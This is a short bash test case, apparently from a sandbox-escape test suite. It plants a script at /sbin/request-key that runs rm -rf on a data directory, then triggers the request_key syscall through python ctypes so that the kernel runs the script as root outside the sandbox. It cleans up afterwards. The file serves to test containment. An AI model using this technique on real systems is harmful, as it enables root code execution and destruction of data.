# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154
# tries: /sbin/request-key made, and a key asked for: the kernel runs it
# class: kernel
# where: guest
# needs: python3

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

# What the kernel runs, as root and outside every tree.
evil() {
	printf '#!/bin/bash\nrm -rf "%s"\n' "$DATA" >"$1"
	chmod 755 "$1"
}

damage() {
	asked_damage
}

prepare() {
	[[ ! -e /sbin/request-key ]] || cannot 'there is a request-key'
	"$TOOLS/files" make "$DATA" 300
}

attack() {
	evil /sbin/request-key
	python3 -c 'import ctypes
ctypes.CDLL(None).syscall(249, b"user", b"escape", b"x", -1)'
}

restore() {
	rm -f /sbin/request-key
}
